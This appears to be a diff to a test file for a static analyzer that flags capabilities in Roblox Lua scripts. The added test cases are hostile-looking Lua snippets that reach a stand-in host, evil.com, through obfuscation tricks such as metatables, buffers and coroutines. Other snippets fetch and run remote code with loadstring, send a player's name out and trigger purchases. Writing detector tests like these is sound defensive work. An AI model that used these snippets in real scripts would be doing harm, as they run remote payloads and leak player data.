@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest'
+import { BASE64_DECODER } from '../../../bench/behavior/cases.ts'
 import { analyze, type CapabilityId } from '../src/index.ts'
 
 const WEBHOOK = `https://discord.com/api/webhooks/123456789012345678/${'abcdefghijklmnop'.repeat(4)}`
@@ -70,23 +71,6 @@ describe('each capability', () => {
   })
 })
 
-const BASE64_DECODER = `
-local b = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
-local function decode(data)
-  data = string.gsub(data, '[^' .. b .. '=]', '')
-  return (data:gsub('.', function(x)
-    if x == '=' then return '' end
-    local r, f = '', b:find(x) - 1
-    for i = 6, 1, -1 do r = r .. (f % 2 ^ i - f % 2 ^ (i - 1) > 0 and '1' or '0') end
-    return r
-  end):gsub('%d%d%d?%d?%d?%d?%d?%d?', function(x)
-    if #x ~= 8 then return '' end
-    local c = 0
-    for i = 1, 8 do c = c + (x:sub(i, i) == '1' and 2 ^ (8 - i) or 0) end
-    return string.char(c)
-  end))
-end
-`
 const CODES = [...Buffer.from('https://evil.com/a')]
 const ENCODED = Buffer.from('https://evil.com/a').toString('base64')
 
@@ -135,9 +119,49 @@ describe('a call is found', () => {
       'local m = loadstring("return {get = function(u) return game:HttpGet(u) end}")() m.get("https://evil.com/a")',
     ],
     ['one of several functions', 'local get = httpget or function() end get("https://evil.com/a")'],
+    [
+      'a field that a metatable handles',
+      'local t = setmetatable({}, {__newindex = function(_, _, u) game:HttpGet(u) end}) t.x = "https://evil.com/a"',
+    ],
+    [
+      'a buffer',
+      `local b = buffer.create(18) for i, c in ipairs({${CODES.join()}}) do buffer.writeu8(b, i - 1, c) end game:HttpGet(buffer.readstring(b, 0, 18))`,
+    ],
+    [
+      'what a coroutine yields',
+      'local next = coroutine.wrap(function() coroutine.yield("https://evil.com/a") end) game:HttpGet(next())',
+    ],
+    [
+      'a property of an object',
+      'local v = Instance.new("StringValue") v.Value = "https://evil.com/a" game:HttpGet(v.Value)',
+    ],
+    ['an attribute', 'script:SetAttribute("u", "https://evil.com/a") game:HttpGet(script:GetAttribute("u"))'],
+    ['table.foreach', 'table.foreach({"https://evil.com/a"}, function(_, u) game:HttpGet(u) end)'],
+    ['options with defaults', 'request(setmetatable({}, {__index = {Url = "https://evil.com/a"}}))'],
   ])('through %s', (_, code) => {
     expect(found(code)).toContain('net.get:code')
     expect(hostsOf(code)).toContain('evil.com')
+  })
+
+  test.each<[CapabilityId, string]>([
+    [
+      'code.remote',
+      'local v = Instance.new("StringValue") v.Value = game:HttpGet("https://a.com") loadstring(v.Value)()',
+    ],
+    [
+      'code.remote',
+      'game.HttpService:RequestInternal({Url = "https://a.com"}):Start(function(_, r) loadstring(r.Body)() end)',
+    ],
+    ['code.remote', 'queue_on_teleport(game:HttpGet("https://a.com"))'],
+    ['net.exfiltration', 'game:HttpGet("https://a.com/?n=" .. game.Players:GetPlayers()[1].Name)'],
+    ['user.purchase', 'game:GetService("MarketplaceService"):PerformPurchase(1, 2)'],
+    ['game.teleport', 'game:GetService("ExperienceService"):LaunchExperience({placeId = 1})'],
+    ['game.chat', 'for _, c in game.TextChatService.TextChannels:GetChildren() do c:SendAsync("hi") end'],
+    ['code.asset', 'getobjects("rbxassetid://1")'],
+    ['code.asset', 'game:GetService("AssetService"):LoadAssetAsync(1)'],
+    ['user.identity', 'game:HttpGet("https://myexternalip.com/raw")'],
+  ])('as %s in %s', (id, code) => {
+    expect(found(code)).toContain(`${id}:code`)
   })
 
   test('with each of many addresses that a function of the script gets', () => {
